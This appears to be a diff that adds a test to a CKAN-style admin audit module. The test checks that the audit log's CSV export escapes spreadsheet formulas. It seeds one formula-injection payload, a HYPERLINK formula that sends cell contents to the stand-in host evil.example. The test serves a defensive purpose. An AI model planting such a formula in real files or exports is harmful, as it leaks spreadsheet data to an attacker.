@@ -94,3 +94,18 @@ def test_bad_input_to_the_review_suspension_mfa_and_audit_actions_is_never_a_500
             assert response.json["success"] is (response.status_code == 200)
     assert app.get("/ckan-admin/trust/audit", headers=admin,
                    query_string={"page": "99999999999999"}).status_code == 200
+
+
+def test_the_export_never_hands_a_spreadsheet_a_formula(app):
+    # a value someone typed that starts a cell (an object named by a user)
+    # and a reason inside the JSON detail
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
+    audit.record("suspension.create", actor="op-1", object_type="user",
+                 object_id=payload, detail={"reason": payload})
+    model.Session.commit()
+    exported = app.get("/ckan-admin/trust/audit.csv", headers=_token(factories.Sysadmin()))
+    [row] = list(csv.DictReader(io.StringIO(exported.data.decode("utf-8-sig"))))
+    assert row["object_id"] == "'" + payload
+    assert row["detail"].startswith("{") and payload.replace('"', '\\"') in row["detail"]
+    assert int(row["id"]) > 0  # numbers stay numbers
+    assert exported.headers["Content-Disposition"] == 'attachment; filename="tdpf-trust-audit.csv"'
